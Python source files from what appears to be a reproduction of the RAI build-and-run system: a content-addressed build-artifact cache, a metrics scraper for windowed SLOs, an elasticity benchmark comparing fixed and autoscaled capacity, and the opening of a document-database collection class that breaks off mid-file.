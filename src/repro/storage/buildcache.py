"""Content-keyed build-artifact cache (incremental builds).

Resubmission storms re-run the same ``cmake``/``make`` command list over
a source tree whose edits a build command frequently never reads (tuning
files, READMEs).  This module is the ccache-direct-mode answer: each
executed build command is recorded as a :class:`CacheEntry` under a
*primary key* of ``(image digest, cwd, command)``, together with the
exact filesystem observations the command made — file content digests,
existence probes, directory enumerations — as captured by
:class:`repro.vfs.AccessTrace`.  A later identical command *hits* when
some recorded entry's every observation still holds against the live
container filesystem; the worker then replays the recorded output tree,
streams, and exit code instead of executing.

Three properties matter:

- **Content addressing with sharing.**  Output file payloads live in a
  refcounted blob store keyed by content digest, so a hundred entries
  whose ``make`` produced the same binary hold it once ("no duplicate
  artifacts"), and eviction of one entry can never corrupt another.
- **Sound invalidation.**  Reads invalidate on content; probes on
  existence/type; enumerations (``walk``/``iter_files``) on the *name
  listing* — adding a source file misses even though nothing read it.
- **Soft refcounts.**  Like the chunk store, blob refcounts are derived
  state: snapshot/restore rebuilds them from the surviving entries.

Entries are bounded by an LRU byte budget and a TTL; hit/miss/evict
events and counters flow through the obs layer when wired.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections import OrderedDict
from typing import Callable, Dict, List, Optional, Tuple

from repro.obs.events import EventType
from repro.vfs.filesystem import (
    AccessTrace,
    VirtualFileSystem,
    file_digest,
    tree_signature,
)

#: Default byte budget for unique artifact blobs.
DEFAULT_MAX_BYTES = 256 << 20
#: Default entry TTL (idle time before eviction) — two weeks of sim time,
#: comfortably past any one project deadline cycle.
DEFAULT_TTL_SECONDS = 14 * 24 * 3600.0


def image_cache_key(image) -> str:
    """Digest of an image's effective layer digests (order-free)."""
    acc = hashlib.sha256()
    for digest in sorted(layer.digest for layer in image.effective_layers()):
        acc.update(digest.encode("ascii"))
        acc.update(b"\n")
    return acc.hexdigest()


def primary_key(image_key: str, cwd: str, command: str) -> str:
    """The ccache-style *direct mode* lookup key: what is about to run,
    where, on which image — before any source content is considered."""
    return hashlib.sha256(
        ("%s\0%s\0%s" % (image_key, cwd, command)).encode("utf-8")).hexdigest()


def content_key(primary: str, inputs: Dict[str, str]) -> str:
    """Primary key refined by the command's observed input set."""
    acc = hashlib.sha256(primary.encode("ascii"))
    acc.update(json.dumps(inputs, sort_keys=True).encode("utf-8"))
    return acc.hexdigest()


class CacheEntry:
    """One recorded command execution: inputs observed, outputs produced."""

    __slots__ = ("key", "primary", "command", "cwd", "inputs", "outputs",
                 "stdout", "stderr", "exit_code", "charged_seconds",
                 "rng_draws", "source_digest", "bytes",
                 "created_at", "last_used_at", "hits")

    def __init__(self, key: str, primary: str, command: str, cwd: str,
                 inputs: Dict[str, str], outputs: List[dict],
                 stdout: str, stderr: str, exit_code: int,
                 charged_seconds: float, rng_draws: int,
                 source_digest: Optional[str], artifact_bytes: int,
                 created_at: float):
        self.key = key
        self.primary = primary
        self.command = command
        self.cwd = cwd
        self.inputs = inputs
        self.outputs = outputs
        self.stdout = stdout
        self.stderr = stderr
        self.exit_code = int(exit_code)
        self.charged_seconds = float(charged_seconds)
        self.rng_draws = int(rng_draws)
        self.source_digest = source_digest
        self.bytes = int(artifact_bytes)
        self.created_at = float(created_at)
        self.last_used_at = float(created_at)
        self.hits = 0

    def blob_digests(self) -> List[str]:
        return [out["blob"] for out in self.outputs if out["kind"] == "file"]

    def to_doc(self) -> dict:
        return {
            "key": self.key,
            "primary": self.primary,
            "command": self.command,
            "cwd": self.cwd,
            "inputs": dict(self.inputs),
            "outputs": [dict(out) for out in self.outputs],
            "stdout": self.stdout,
            "stderr": self.stderr,
            "exit_code": self.exit_code,
            "charged_seconds": self.charged_seconds,
            "rng_draws": self.rng_draws,
            "source_digest": self.source_digest,
            "bytes": self.bytes,
            "created_at": self.created_at,
            "last_used_at": self.last_used_at,
        }

    @classmethod
    def from_doc(cls, doc: dict) -> "CacheEntry":
        entry = cls(doc["key"], doc["primary"], doc["command"], doc["cwd"],
                    dict(doc["inputs"]), [dict(o) for o in doc["outputs"]],
                    doc["stdout"], doc["stderr"], doc["exit_code"],
                    doc["charged_seconds"], doc["rng_draws"],
                    doc.get("source_digest"), doc["bytes"],
                    doc["created_at"])
        entry.last_used_at = float(doc.get("last_used_at",
                                           doc["created_at"]))
        return entry

    def __repr__(self):
        return (f"<CacheEntry {self.key[:8]} {self.command!r} "
                f"exit={self.exit_code} {self.bytes}B hits={self.hits}>")


class BuildCache:
    """Refcounted, LRU/TTL-evicted store of cached build commands."""

    def __init__(self, clock: Callable[[], float],
                 max_bytes: int = DEFAULT_MAX_BYTES,
                 ttl_seconds: float = DEFAULT_TTL_SECONDS,
                 metrics=None, events=None,
                 seen_sources_limit: int = 4096):
        self._clock = clock
        self.max_bytes = int(max_bytes)
        self.ttl_seconds = float(ttl_seconds)
        self.metrics = metrics
        self.events = events
        #: content key → entry, LRU order (oldest first).
        self._entries: "OrderedDict[str, CacheEntry]" = OrderedDict()
        #: primary key → content keys, MRU first.
        self._by_primary: Dict[str, List[str]] = {}
        #: blob digest → payload, shared across entries.
        self._blobs: Dict[str, bytes] = {}
        self._blob_refs: Dict[str, int] = {}
        self.total_blob_bytes = 0
        self.hit_count = 0
        self.miss_count = 0
        self.evict_count = 0
        #: Source-tree digests that completed a cached build — the
        #: scheduler's hit predictor consults this (bounded LRU).
        self._seen_sources: "OrderedDict[str, None]" = OrderedDict()
        self._seen_sources_limit = int(seen_sources_limit)

    # -- lookup --------------------------------------------------------------

    def lookup(self, image_key: str, cwd: str, command: str,
               fs: VirtualFileSystem,
               job_id: Optional[str] = None) -> Optional[CacheEntry]:
        """Return the first recorded entry whose observations all hold.

        Entries under the same primary are tried MRU-first, so a stable
        resubmission pattern verifies exactly one candidate.
        """
        primary = primary_key(image_key, cwd, command)
        for key in self._by_primary.get(primary, []):
            entry = self._entries.get(key)
            if entry is None:
                continue
            if self._verify_inputs(entry.inputs, fs):
                now = self._clock()
                entry.hits += 1
                entry.last_used_at = now
                self._entries.move_to_end(key)
                keys = self._by_primary[primary]
                keys.remove(key)
                keys.insert(0, key)
                self.hit_count += 1
                if self.metrics is not None:
                    self.metrics.counter("buildcache_hits_total").inc()
                if self.events is not None:
                    self.events.emit(EventType.BUILDCACHE_HIT,
                                     job_id=job_id, command=command,
                                     key=key[:16], artifact_bytes=entry.bytes)
                return entry
        self.miss_count += 1
        if self.metrics is not None:
            self.metrics.counter("buildcache_misses_total").inc()
        if self.events is not None:
            self.events.emit(EventType.BUILDCACHE_MISS,
                             job_id=job_id, command=command)
        return None

    @staticmethod
    def _verify_inputs(inputs: Dict[str, str],
                       fs: VirtualFileSystem) -> bool:
        for path, descriptor in inputs.items():
            if descriptor == "absent":
                if fs.exists(path):
                    return False
            elif descriptor == "dir":
                if not fs.isdir(path):
                    return False
            elif descriptor == "file":
                if not fs.isfile(path):
                    return False
            elif descriptor.startswith("file:"):
                if not fs.isfile(path):
                    return False
                if file_digest(fs.read_file(path)) != descriptor[5:]:
                    return False
            elif descriptor.startswith("tree:"):
                if not fs.isdir(path):
                    return False
                node = fs._resolve_dir(path)
                if tree_signature(path, node) != descriptor[5:]:
                    return False
            elif descriptor.startswith("list:"):
                if not fs.isdir(path):
                    return False
                names = "\n".join(sorted(fs._resolve_dir(path).children))
                if file_digest(names.encode()) != descriptor[5:]:
                    return False
            else:  # unknown descriptor kind: fail safe, never hit
                return False
        return True

    # -- capture -------------------------------------------------------------

    def capture(self, image_key: str, cwd: str, command: str,
                trace: AccessTrace, fs: VirtualFileSystem,
                stdout: str, stderr: str, exit_code: int,
                charged_seconds: float, rng_draws: int,
                source_digest: Optional[str] = None,
                job_id: Optional[str] = None) -> CacheEntry:
        """Record one executed command's observations and output tree.

        Publication is atomic with respect to the simulation: no yields
        happen inside, so a worker crash either sees no entry or a whole
        one — never a partial artifact.
        """
        primary = primary_key(image_key, cwd, command)
        inputs = dict(trace.inputs)
        key = content_key(primary, inputs)
        outputs, blobs, artifact_bytes = self._snapshot_writes(
            fs, trace.writes)
        now = self._clock()

        old = self._entries.pop(key, None)
        if old is not None:
            self._unlink_entry(old)

        for digest, payload in blobs.items():
            if digest not in self._blobs:
                self._blobs[digest] = payload
                self._blob_refs[digest] = 0
                self.total_blob_bytes += len(payload)
        for out in outputs:
            if out["kind"] == "file":
                self._blob_refs[out["blob"]] += 1

        entry = CacheEntry(key, primary, command, cwd, inputs, outputs,
                           stdout, stderr, exit_code, charged_seconds,
                           rng_draws, source_digest, artifact_bytes, now)
        self._entries[key] = entry
        self._by_primary.setdefault(primary, [])
        if key in self._by_primary[primary]:
            self._by_primary[primary].remove(key)
        self._by_primary[primary].insert(0, key)
        if source_digest:
            self.note_source(source_digest)
        self._evict(job_id=job_id)
        return entry

    @staticmethod
    def _snapshot_writes(fs: VirtualFileSystem, writes) \
            -> Tuple[List[dict], Dict[str, bytes], int]:
        """Fold a trace's written paths into replayable output records.

        Sorted order puts parents before children, so replay can apply
        records sequentially.  Directories expand to their final subtree
        (a ``make`` that wrote into a directory it also created must
        replay the whole result).
        """
        outputs: List[dict] = []
        blobs: Dict[str, bytes] = {}
        seen: set = set()
        total = 0

        def add_file(path: str) -> None:
            nonlocal total
            if path in seen:
                return
            seen.add(path)
            data = fs.read_file(path)
            digest = file_digest(data)
            blobs[digest] = data
            executable = bool(fs.stat(path).get("executable"))
            outputs.append({"path": path, "kind": "file", "blob": digest,
                            "executable": executable})
            total += len(data)

        def add_dir(path: str) -> None:
            if path in seen:
                return
            seen.add(path)
            outputs.append({"path": path, "kind": "dir"})
            for dirpath, dirnames, filenames in fs.walk(path):
                for name in dirnames:
                    sub = (dirpath.rstrip("/") + "/" + name
                           if dirpath != "/" else "/" + name)
                    if sub not in seen:
                        seen.add(sub)
                        outputs.append({"path": sub, "kind": "dir"})
                for name in filenames:
                    sub = (dirpath.rstrip("/") + "/" + name
                           if dirpath != "/" else "/" + name)
                    add_file(sub)

        for path in sorted(writes):
            if fs.isfile(path):
                add_file(path)
            elif fs.isdir(path):
                add_dir(path)
            elif path not in seen:
                seen.add(path)
                outputs.append({"path": path, "kind": "absent"})
        return outputs, blobs, total

    # -- replay --------------------------------------------------------------

    def apply(self, entry: CacheEntry, fs: VirtualFileSystem) -> int:
        """Materialize a hit's recorded output tree into ``fs``.

        Returns the artifact bytes written (the replay transfer size).
        """
        for out in entry.outputs:
            path = out["path"]
            kind = out["kind"]
            if kind == "dir":
                fs.makedirs(path)
            elif kind == "file":
                payload = self._blobs.get(out["blob"])
                if payload is None:
                    raise KeyError(
                        f"buildcache blob {out['blob'][:12]} missing "
                        f"(entry {entry.key[:12]})")
                fs.write_file(path, payload,
                              executable=bool(out.get("executable")))
            elif kind == "absent":
                if fs.isfile(path):
                    fs.remove(path)
                elif fs.isdir(path):
                    fs.rmtree(path)
        return entry.bytes

    # -- eviction ------------------------------------------------------------

    def _unlink_entry(self, entry: CacheEntry) -> None:
        keys = self._by_primary.get(entry.primary)
        if keys is not None:
            if entry.key in keys:
                keys.remove(entry.key)
            if not keys:
                del self._by_primary[entry.primary]
        for digest in entry.blob_digests():
            count = self._blob_refs.get(digest)
            if count is None:
                continue
            if count <= 1:
                del self._blob_refs[digest]
                self.total_blob_bytes -= len(self._blobs.pop(digest, b""))
            else:
                self._blob_refs[digest] = count - 1

    def _evict_one(self, key: str, reason: str,
                   job_id: Optional[str] = None) -> None:
        entry = self._entries.pop(key)
        self._unlink_entry(entry)
        self.evict_count += 1
        if self.metrics is not None:
            self.metrics.counter("buildcache_evictions_total",
                                 reason=reason).inc()
        if self.events is not None:
            self.events.emit(EventType.BUILDCACHE_EVICT,
                             job_id=job_id, command=entry.command,
                             key=key[:16], reason=reason,
                             artifact_bytes=entry.bytes)

    def _evict(self, job_id: Optional[str] = None) -> None:
        now = self._clock()
        if self.ttl_seconds > 0:
            expired = [k for k, e in self._entries.items()
                       if now - e.last_used_at > self.ttl_seconds]
            for key in expired:
                self._evict_one(key, "ttl", job_id=job_id)
        while self.total_blob_bytes > self.max_bytes and self._entries:
            key = next(iter(self._entries))
            self._evict_one(key, "lru", job_id=job_id)

    def sweep(self) -> int:
        """TTL-only sweep (for lifecycle processes); returns evictions."""
        before = self.evict_count
        self._evict()
        return self.evict_count - before

    # -- scheduler prediction ------------------------------------------------

    def note_source(self, source_digest: str) -> None:
        self._seen_sources.pop(source_digest, None)
        self._seen_sources[source_digest] = None
        while len(self._seen_sources) > self._seen_sources_limit:
            self._seen_sources.popitem(last=False)

    def seen_source(self, source_digest: Optional[str]) -> bool:
        """Has a build of this exact source tree completed before?"""
        return (source_digest is not None
                and source_digest in self._seen_sources)

    # -- integrity / observability ------------------------------------------

    def verify(self) -> List[str]:
        """Cross-check blob refcounts and byte accounting against the
        entry table; returns a list of problems (empty = consistent)."""
        problems: List[str] = []
        expected_refs: Dict[str, int] = {}
        for entry in self._entries.values():
            for digest in entry.blob_digests():
                expected_refs[digest] = expected_refs.get(digest, 0) + 1
                if digest not in self._blobs:
                    problems.append(
                        f"entry {entry.key[:12]} references missing blob "
                        f"{digest[:12]}")
        if expected_refs != self._blob_refs:
            problems.append(
                f"blob refcounts diverge: expected {len(expected_refs)} "
                f"referenced blobs, table has {len(self._blob_refs)}")
        actual_bytes = sum(len(b) for b in self._blobs.values())
        if actual_bytes != self.total_blob_bytes:
            problems.append(
                f"byte accounting diverges: {self.total_blob_bytes} "
                f"tracked vs {actual_bytes} held")
        orphans = [d for d in self._blobs if d not in expected_refs]
        if orphans:
            problems.append(f"{len(orphans)} orphaned blobs")
        return problems

    @property
    def entry_count(self) -> int:
        return len(self._entries)

    def hit_rate(self) -> float:
        total = self.hit_count + self.miss_count
        return self.hit_count / total if total else 0.0

    def top_entries(self, n: int = 5) -> List[dict]:
        ranked = sorted(self._entries.values(),
                        key=lambda e: (-e.hits, e.key))
        return [{"key": e.key[:16], "command": e.command, "hits": e.hits,
                 "bytes": e.bytes, "exit_code": e.exit_code}
                for e in ranked[:n]]

    def stats(self) -> dict:
        return {
            "entries": len(self._entries),
            "blobs": len(self._blobs),
            "blob_bytes": self.total_blob_bytes,
            "max_bytes": self.max_bytes,
            "ttl_seconds": self.ttl_seconds,
            "hits": self.hit_count,
            "misses": self.miss_count,
            "evictions": self.evict_count,
            "hit_rate": round(self.hit_rate(), 4),
            "seen_sources": len(self._seen_sources),
        }

    # -- snapshot / restore --------------------------------------------------

    def to_snapshot(self) -> dict:
        """Durable image of the cache: entries + unique blobs.

        Refcounts, LRU order beyond entry order, and hit/miss counters
        are soft state — the restore path rebuilds or resets them.
        """
        return {
            "max_bytes": self.max_bytes,
            "ttl_seconds": self.ttl_seconds,
            "entries": [e.to_doc() for e in self._entries.values()],
            "blobs": {d: base64.b64encode(b).decode("ascii")
                      for d, b in self._blobs.items()},
        }

    def install_snapshot(self, snap: dict) -> dict:
        """Replace cache contents from a snapshot; rebuilds refcounts.

        Blobs no surviving entry references are dropped (mirror of
        :meth:`ChunkStore.rebuild_refcounts`).
        """
        blobs = {d: base64.b64decode(b)
                 for d, b in snap.get("blobs", {}).items()}
        self._entries = OrderedDict()
        self._by_primary = {}
        self._blobs = {}
        self._blob_refs = {}
        self.total_blob_bytes = 0
        self._seen_sources = OrderedDict()
        dropped = 0
        for doc in snap.get("entries", []):
            entry = CacheEntry.from_doc(doc)
            missing = [d for d in entry.blob_digests() if d not in blobs]
            if missing:  # torn entry: its payload did not survive
                dropped += 1
                continue
            self._entries[entry.key] = entry
            self._by_primary.setdefault(entry.primary, []).insert(
                0, entry.key)
            for digest in entry.blob_digests():
                if digest not in self._blobs:
                    payload = blobs[digest]
                    self._blobs[digest] = payload
                    self._blob_refs[digest] = 0
                    self.total_blob_bytes += len(payload)
                self._blob_refs[digest] += 1
            if entry.source_digest:
                self.note_source(entry.source_digest)
        orphaned = len(blobs) - len(self._blobs)
        return {
            "entries": len(self._entries),
            "dropped_entries": dropped,
            "blobs": len(self._blobs),
            "orphaned_blobs": orphaned,
            "blob_bytes": self.total_blob_bytes,
        }


__all__ = [
    "DEFAULT_MAX_BYTES", "DEFAULT_TTL_SECONDS",
    "image_cache_key", "primary_key", "content_key",
    "CacheEntry", "BuildCache",
]
