"""Periodic snapshots of the metrics registry, for windowed evaluation.

Counters and histograms in :class:`~repro.obs.metrics.MetricsRegistry`
are *cumulative*: they answer "how many ever", never "how many in the
last five minutes".  SLO burn rates need the latter, so the scraper
takes sim-clock snapshots of every series and exposes window-delta
queries: counter increase over a window, histogram bucket deltas over a
window (from which a windowed percentile or a good/bad split falls out),
and gauge sample series (fraction-of-time style SLIs).

Snapshots are compact (plain floats and tuples, no Metric objects) and
ring-buffered, so a week-long simulated course holds a bounded history.
The scrape loop is an opt-in perpetual process like the broker caretaker
— ``RaiSystem.start_observability`` drives it — but :meth:`scrape_now`
also works on demand (``rai slo`` takes a fresh snapshot per report).
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Deque, Dict, List, Optional, Tuple

from repro.obs.metrics import Counter, Gauge, Histogram, MetricsRegistry

SeriesKey = Tuple[str, str]        # (metric name, label text)


def _label_text(labels: dict) -> str:
    return ",".join(f"{k}={v}" for k, v in sorted(labels.items()))


class HistogramState:
    """One histogram's cumulative state at scrape time."""

    __slots__ = ("count", "sum", "bucket_counts", "bounds")

    def __init__(self, count: int, sum_: float,
                 bucket_counts: Tuple[int, ...],
                 bounds: Tuple[float, ...]):
        self.count = count
        self.sum = sum_
        self.bucket_counts = bucket_counts
        self.bounds = bounds


class MetricsSnapshot:
    """All series values at one instant of simulated time."""

    __slots__ = ("time", "counters", "gauges", "histograms")

    def __init__(self, time: float):
        self.time = time
        self.counters: Dict[SeriesKey, float] = {}
        self.gauges: Dict[SeriesKey, float] = {}
        self.histograms: Dict[SeriesKey, HistogramState] = {}

    def counter(self, name: str, label: str = "") -> float:
        return self.counters.get((name, label), 0.0)

    def counter_total(self, name: str) -> float:
        return sum(v for (n, _), v in self.counters.items() if n == name)

    def gauge(self, name: str, label: str = "") -> Optional[float]:
        return self.gauges.get((name, label))

    def histogram(self, name: str,
                  label: str = "") -> Optional[HistogramState]:
        return self.histograms.get((name, label))


class MetricsScraper:
    """Bounded history of :class:`MetricsSnapshot`\\ s on the sim clock."""

    def __init__(self, registry: MetricsRegistry,
                 clock: Callable[[], float],
                 interval: float = 60.0,
                 max_samples: int = 256):
        if interval <= 0:
            raise ValueError("interval must be positive")
        if max_samples < 2:
            raise ValueError("max_samples must be >= 2 (need a baseline)")
        self.registry = registry
        self.clock = clock
        self.interval = interval
        self._samples: Deque[MetricsSnapshot] = deque(maxlen=max_samples)
        self._stopped = False
        self.total_scrapes = 0
        #: Sim time of the most recent scrape (heartbeat for watchdogs).
        self.last_scrape_at: Optional[float] = None

    # -- capture ------------------------------------------------------------

    def scrape_now(self) -> MetricsSnapshot:
        """Take one snapshot of every series and append it."""
        snap = MetricsSnapshot(self.clock())
        for metric in self.registry:
            key = (metric.name, _label_text(metric.labels))
            if isinstance(metric, Counter):
                snap.counters[key] = metric.value
            elif isinstance(metric, Histogram):
                snap.histograms[key] = HistogramState(
                    metric.count, metric.sum,
                    tuple(metric.bucket_counts), metric.buckets)
            elif isinstance(metric, Gauge):
                # Labelled callback gauges (per-worker utilisation) are
                # skipped like the telemetry sampler skips them: they are
                # fleet-sized, and the SLO layer reads deployment-level
                # signals.
                if metric.labels and metric.fn is not None:
                    continue
                snap.gauges[key] = metric.value
        self._samples.append(snap)
        self.total_scrapes += 1
        self.last_scrape_at = snap.time
        return snap

    def stop(self) -> None:
        self._stopped = True

    def process(self, sim, on_scrape: Optional[Callable] = None):
        """Kernel process: scrape every ``interval`` simulated seconds.

        Start with ``sim.process(scraper.process(sim))``.  It is a
        perpetual process (like the broker caretaker), so drive the
        simulation with ``run(until=...)`` or a terminating process set.
        ``on_scrape(snapshot)`` runs after each capture — the system
        wires the alert manager's check here so SLO burn rates are
        judged on every fresh sample.
        """
        while not self._stopped:
            yield sim.timeout(self.interval)
            if self._stopped:
                return
            snap = self.scrape_now()
            if on_scrape is not None:
                on_scrape(snap)

    # -- history access ------------------------------------------------------

    def __len__(self) -> int:
        return len(self._samples)

    @property
    def samples(self) -> List[MetricsSnapshot]:
        return list(self._samples)

    def latest(self) -> Optional[MetricsSnapshot]:
        return self._samples[-1] if self._samples else None

    def baseline_for(self, now: float, window: float
                     ) -> Optional[MetricsSnapshot]:
        """Newest snapshot at or before ``now - window``.

        Falls back to the oldest retained snapshot when the window
        reaches past history (best effort, with the true span readable
        off the returned snapshot's ``time``); None with no history.
        """
        cutoff = now - window
        best = None
        for snap in self._samples:
            if snap.time <= cutoff:
                best = snap
            else:
                break
        if best is None and self._samples:
            best = self._samples[0]
        return best

    def in_window(self, now: float, window: float) -> List[MetricsSnapshot]:
        """Snapshots with ``now - window < time <= now``."""
        cutoff = now - window
        return [s for s in self._samples if cutoff < s.time <= now]

    # -- window deltas -------------------------------------------------------

    def counter_delta(self, name: str, now: float, window: float,
                      label: str = "",
                      latest: Optional[MetricsSnapshot] = None) -> float:
        """Counter increase between the window baseline and ``latest``."""
        latest = latest if latest is not None else self.latest()
        base = self.baseline_for(now, window)
        if latest is None:
            return 0.0
        end = latest.counter(name, label)
        start = base.counter(name, label) if base is not None else 0.0
        return max(0.0, end - start)

    def histogram_delta(self, name: str, now: float, window: float,
                        label: str = "",
                        latest: Optional[MetricsSnapshot] = None
                        ) -> Optional[HistogramState]:
        """Bucketed observations that landed inside the window."""
        latest = latest if latest is not None else self.latest()
        if latest is None:
            return None
        end = latest.histogram(name, label)
        if end is None:
            return None
        base = self.baseline_for(now, window)
        start = base.histogram(name, label) if base is not None else None
        if start is None:
            return HistogramState(end.count, end.sum,
                                  end.bucket_counts, end.bounds)
        counts = tuple(e - s for e, s in zip(end.bucket_counts,
                                             start.bucket_counts))
        return HistogramState(end.count - start.count, end.sum - start.sum,
                              counts, end.bounds)

    def gauge_samples(self, name: str, now: float, window: float,
                      label: str = "") -> List[Tuple[float, float]]:
        """(time, value) gauge samples inside the window."""
        out = []
        for snap in self.in_window(now, window):
            value = snap.gauge(name, label)
            if value is not None:
                out.append((snap.time, value))
        return out

    def stats(self) -> dict:
        return {
            "samples": len(self._samples),
            "total_scrapes": self.total_scrapes,
            "interval": self.interval,
            "last_scrape_at": self.last_scrape_at,
            "span": (self._samples[-1].time - self._samples[0].time
                     if len(self._samples) >= 2 else 0.0),
        }
