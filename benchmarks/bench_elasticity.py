"""§III/§VII — elasticity: fixed cluster vs elastic RAI under a deadline burst.

Paper claims reproduced in shape:

- "the fixed resources of the local cluster can become oversubscribed
  during the final weeks ... the cluster queue can become long, causing
  delays and a poor experience" (§III, the Torque/PBS column);
- "students worked in bursts, which required RAI to be elastic to remain
  reliable and cost-efficient" (§VII).

Setup: the same burst arrival pattern (quiet → deadline spike) is offered
to (a) a fixed 6-node Torque cluster, (b) RAI with a fixed 6 workers, and
(c) RAI with the reactive autoscaler (up to 24 single-job workers).  The
figure of merit is queue wait; the autoscaler should hold waits near
interactive levels through the spike while fixed capacity degrades, at a
cost far below permanently provisioning for the peak.
"""

import numpy as np

from benchmarks.conftest import print_banner
from repro.baselines import TorqueCluster
from repro.cluster import Autoscaler, AutoscalerPolicy, CostReport, Provisioner
from repro.core.system import RaiSystem
from repro.sim import Simulator

HOUR = 3600.0
JOB_SECONDS = 90.0          # a mid-project build+run cycle
FIXED_NODES = 6
BURST_HOURS = 6.0


def burst_arrivals(seed=5):
    """Arrival times: 1 job/min background, ramping 10x near 'deadline'."""
    rng = np.random.default_rng(seed)
    times = []
    t = 0.0
    while t < BURST_HOURS * HOUR:
        progress = t / (BURST_HOURS * HOUR)
        rate_per_sec = (1 + 9 * progress ** 3) / 60.0
        t += float(rng.exponential(1.0 / rate_per_sec))
        times.append(t)
    return times


def run_torque(arrivals):
    sim = Simulator()
    cluster = TorqueCluster(sim, nodes=FIXED_NODES)

    def feeder(sim):
        last = 0.0
        for i, at in enumerate(arrivals):
            yield sim.timeout(at - last)
            last = at
            cluster.qsub(f"u{i}", JOB_SECONDS)

    sim.process(feeder(sim))
    sim.run()
    waits = cluster.completed_waits()
    return np.asarray(waits), None


def run_rai(arrivals, autoscale: bool, seed=7):
    system = RaiSystem(seed=seed)
    provisioner = Provisioner(system)
    if autoscale:
        policy = AutoscalerPolicy(
            min_instances=2, max_instances=24, step=4,
            check_interval=120.0, scale_out_per_worker=1.5,
            scale_in_cooldown=1800.0)
        scaler = Autoscaler(system, provisioner, policy)
        system.sim.process(scaler.run())
    else:
        provisioner.launch_many(FIXED_NODES, instance_type="p2.xlarge",
                                boot_delay=0.0)

    waits = []

    def job(sim, at):
        # A synthetic job through the real queue path: publish, wait for a
        # worker slot, hold it for the service time.  (Containers are not
        # needed for a queueing comparison and would quintuple runtime.)
        from repro.broker.client import Consumer, Producer

        producer = Producer(system.broker, "rai")
        body = {"synthetic": True, "service": JOB_SECONDS, "at": at}
        producer.publish(body)
        producer.close()

    # Synthetic workers: consume from the same channel with the same
    # concurrency the provisioner granted.
    def synthetic_worker_loop(worker):
        from repro.broker.client import Consumer

        consumer = Consumer(system.broker, "rai/tasks")
        while worker.is_running:
            msg = yield consumer.get()
            waits.append(system.sim.now - msg.body["at"])
            yield system.sim.timeout(msg.body["service"])
            consumer.ack(msg)

    # Replace real executors with synthetic ones as workers appear.
    seen = set()

    def worker_watcher(sim):
        while True:
            for worker in system.running_workers:
                if worker.id not in seen:
                    seen.add(worker.id)
                    worker.stop()            # park the real executors
                    worker._stopped = False  # reuse its identity
                    sim.process(synthetic_worker_loop(worker))
            yield sim.timeout(30.0)

    def feeder(sim):
        last = 0.0
        for at in arrivals:
            yield sim.timeout(at - last)
            last = at
            job(sim, at)

    system.sim.process(worker_watcher(system.sim))
    system.sim.process(feeder(system.sim))
    horizon = BURST_HOURS * HOUR + 4 * HOUR
    system.sim.run(until=horizon)
    return np.asarray(waits), CostReport.collect(provisioner)


def test_elasticity_fixed_vs_elastic(benchmark):
    arrivals = burst_arrivals()

    def experiment():
        torque = run_torque(arrivals)
        rai_fixed = run_rai(arrivals, autoscale=False)
        rai_elastic = run_rai(arrivals, autoscale=True)
        return torque, rai_fixed, rai_elastic

    (tq_waits, _), (fx_waits, fx_cost), (el_waits, el_cost) = \
        benchmark.pedantic(experiment, rounds=1, iterations=1)

    def summary(name, waits, cost=None):
        served = len(waits)
        line = (f"{name:<28} served={served:5d} "
                f"median wait={np.median(waits):8.1f}s "
                f"p95={np.percentile(waits, 95):9.1f}s "
                f"max={waits.max():9.1f}s")
        if cost is not None:
            line += f"  cost=${cost.total_cost_usd:7.2f}"
        print(line)
        return np.percentile(waits, 95)

    print_banner("Elasticity — deadline burst: fixed capacity vs elastic")
    print(f"offered load: {len(arrivals)} jobs over {BURST_HOURS:.0f}h, "
          f"{JOB_SECONDS:.0f}s each; fixed capacity = {FIXED_NODES} nodes")
    tq_p95 = summary("Torque/PBS (fixed 6)", tq_waits)
    fx_p95 = summary("RAI, fixed 6 workers", fx_waits, fx_cost)
    el_p95 = summary("RAI + autoscaler (≤24)", el_waits, el_cost)

    peak_cost = 24 * 0.90 * (BURST_HOURS + 4)
    print(f"\nalways-at-peak cost would be ≈ ${peak_cost:.2f}; "
          f"autoscaler paid ${el_cost.total_cost_usd:.2f}")

    # --- shape assertions -------------------------------------------------
    # Fixed capacity (either scheduler) saturates: long tail waits.
    assert tq_p95 > 10 * JOB_SECONDS
    assert fx_p95 > 10 * JOB_SECONDS
    # Elastic RAI keeps the p95 wait interactive (< a few job times).
    assert el_p95 < 5 * JOB_SECONDS
    assert el_p95 < tq_p95 / 10
    # And does it cheaper than permanently provisioning the peak.
    assert el_cost.total_cost_usd < peak_cost * 0.8
    # Everyone eventually served by the elastic system.
    assert len(el_waits) == len(arrivals)
