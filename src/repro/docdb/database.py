"""Collections and the database front object."""

from __future__ import annotations

import copy
import itertools
from typing import Any, Dict, List, Optional

from repro.docdb.aggregate import run_pipeline
from repro.docdb.cursor import Cursor
from repro.docdb.index import Index
from repro.docdb.query import match_document, get_path, _MISSING
from repro.docdb.update import apply_update
from repro.errors import DocDbError, DuplicateKeyError


class Collection:
    """A named set of documents."""

    def __init__(self, db: "DocumentDB", name: str):
        self.db = db
        self.name = name
        self._docs: Dict[Any, dict] = {}
        self._indexes: Dict[str, Index] = {}
        self._id_counter = itertools.count(1)

    # -- indexes ------------------------------------------------------------

    def create_index(self, field: str, unique: bool = False) -> Index:
        if field in self._indexes:
            return self._indexes[field]
        index = Index(field, unique=unique)
        for doc_id, doc in self._docs.items():
            index.add(doc_id, doc)
        self._indexes[field] = index
        return index

    def _index_add(self, doc_id, doc) -> None:
        for index in self._indexes.values():
            index.check_would_conflict(doc_id, doc)
        for index in self._indexes.values():
            index.add(doc_id, doc)

    def _index_remove(self, doc_id, doc) -> None:
        for index in self._indexes.values():
            index.remove(doc_id, doc)

    # -- writes ------------------------------------------------------------

    def insert_one(self, document: dict) -> Any:
        """Insert a document; returns its ``_id`` (generated if absent)."""
        if not isinstance(document, dict):
            raise DocDbError("documents must be dicts")
        doc = copy.deepcopy(document)
        doc_id = doc.get("_id")
        if doc_id is None:
            doc_id = f"oid-{next(self._id_counter):08d}"
            doc["_id"] = doc_id
        if doc_id in self._docs:
            raise DuplicateKeyError(f"_id {doc_id!r} already exists")
        self._index_add(doc_id, doc)
        self._docs[doc_id] = doc
        return doc_id

    def insert_many(self, documents) -> List[Any]:
        return [self.insert_one(d) for d in documents]

    def replace_one(self, filter: dict, replacement: dict,
                    upsert: bool = False) -> int:
        return self._update(filter, replacement, upsert=upsert, many=False)

    def update_one(self, filter: dict, update: dict,
                   upsert: bool = False) -> int:
        """Apply ``update`` to the first match; returns modified count."""
